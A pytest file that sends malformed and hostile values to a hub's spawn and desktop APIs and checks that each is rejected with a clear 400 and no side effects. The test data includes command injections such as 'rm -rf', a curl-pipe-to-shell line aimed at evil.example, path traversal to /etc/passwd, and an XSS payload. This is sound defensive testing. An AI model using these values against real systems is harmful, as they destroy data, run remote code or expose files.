"""Malformed, oversized and hostile values for every spawn option and every desktop body
field get a clear 4xx answer that names what was wrong, and start or change nothing."""

from __future__ import annotations

from typing import Any

import pytest
from hub_api import HubAPI
from ledger import Ledger
from waiting import wait_until

LONG = "x" * 20_000

# (field, value, a word the message must contain) for the hub's spawn API.
HOSTILE_SPAWN_OPTIONS: list[tuple[str, Any, str]] = [
    ("session", None, "session"),
    ("session", ["jupyterlab"], "session"),
    ("session", "jupyterlab\x00desktop", "session"),
    ("stack", "../../../etc", "stack"),
    ("stack", "LCG_105; rm -rf /", "stack"),
    ("stack", "LCG_\u202e501", "stack"),
    ("stack", LONG, "stack"),
    ("platform", "x86_64-el9-gcc13-opt/../../..", "platform"),
    ("platform", {"os": "el9"}, "platform"),
    ("cores", -1, "cores"),
    ("cores", 0, "cores"),
    ("cores", 1e9, "cores"),
    ("cores", "two", "cores"),
    ("cores", True, "cores"),
    ("memory", -4, "memory"),
    ("memory", 10**12, "memory"),
    ("memory", "4G; --privileged", "memory"),
    ("memory", None, "memory"),
    ("env_script", "../../etc/profile", "script"),
    ("env_script", "/etc/profile", "script"),
    ("env_script", "~/../victim/.bashrc", "script"),
    ("env_script", "$(curl evil.example | sh)", "script"),
    ("env_script", "scripts/env.sh\nrm -rf ~", "script"),
    ("env_script", "скрипт.sh", "script"),
    ("env_script", LONG, "script"),
    ("env_script", 42, "script"),
]


@pytest.mark.parametrize(
    ("field", "value", "word"),
    HOSTILE_SPAWN_OPTIONS,
    ids=[f"{f}-{i}" for i, (f, _, _) in enumerate(HOSTILE_SPAWN_OPTIONS)],
)
def test_hostile_spawn_options_get_a_400_naming_the_field(
    hub: HubAPI, user: str, ledger: Ledger, field: str, value: Any, word: str
) -> None:
    with ledger.bad_input(f"spawn API: {field} = {str(value)[:40]!r}"):
        r = hub.request("POST", f"/hub/api/users/{user}/server", as_user=user, json={field: value})
        assert r.status_code == 400, f"{r.status_code} {r.text[:300]}"
        message = r.json()["message"]
        assert word in message.lower(), message
        assert len(message) < 2_000, "the message must not echo an oversized value whole"
        wait_until(lambda: hub.server(user) is None, 30, "no server left behind")


# (what, body) for POST desktops/api/desktops on a running server.
HOSTILE_DESKTOP_BODIES: list[tuple[str, Any]] = [
    ("name with control characters", {"name": "a\x00b\x1b[31m"}),
    ("name with a bidi override", {"name": "\u202egnp.exe"}),
    ("name with a trailing newline", {"name": "desktop\n"}),
    ("name oversized", {"name": LONG}),
    ("geometry negative", {"geometry": "-800x600"}),
    ("geometry zero", {"geometry": "0x0"}),
    ("geometry with a command", {"geometry": "800x600; reboot"}),
    ("layout path traversal", {"layout": "../../../../etc/passwd"}),
    ("layout oversized", {"layout": LONG}),
    ("variant with markup", {"layout": "de", "variant": "<img src=x onerror=alert(1)>"}),
    ("number as body", 12),
    ("null body", "null"),
    ("truncated JSON", '{"name": "x"'),
    ("deeply nested", {"name": [[[[[[[[[[[["x"]]]]]]]]]]]]}),
]


@pytest.fixture
def running_server(hub: HubAPI, user: str) -> str:
    hub.start_server(user)
    return user


def test_hostile_desktop_bodies_get_a_400_and_change_nothing(
    hub: HubAPI, running_server: str, ledger: Ledger
) -> None:
    user = running_server
    api = f"/user/{user}/desktops/api/desktops"
    for what, body in HOSTILE_DESKTOP_BODIES:
        with ledger.bad_input(f"desktop API: {what}"):
            # Strings are sent as the raw body (JSON that requests would not produce).
            raw = {"data": body} if isinstance(body, str) else {"json": body}
            r = hub.request("POST", api, as_user=user, **raw)
            assert r.status_code == 400, f"{what}: {r.status_code} {r.text[:300]}"
            message = r.json().get("message", "")
            assert message, f"{what}: no message in {r.text[:300]}"
            assert len(message) < 2_000, f"{what}: the message echoes the value whole"
    # A friendly unicode name is not hostile: it is kept as given.
    r = hub.request("POST", api, as_user=user, json={"name": "Détecteur ATLAS, vue 3D"})
    assert r.status_code == 201, r.text
    desktops = hub.request("GET", api, as_user=user).json()
    assert [d["name"] for d in desktops] == ["Détecteur ATLAS, vue 3D"]
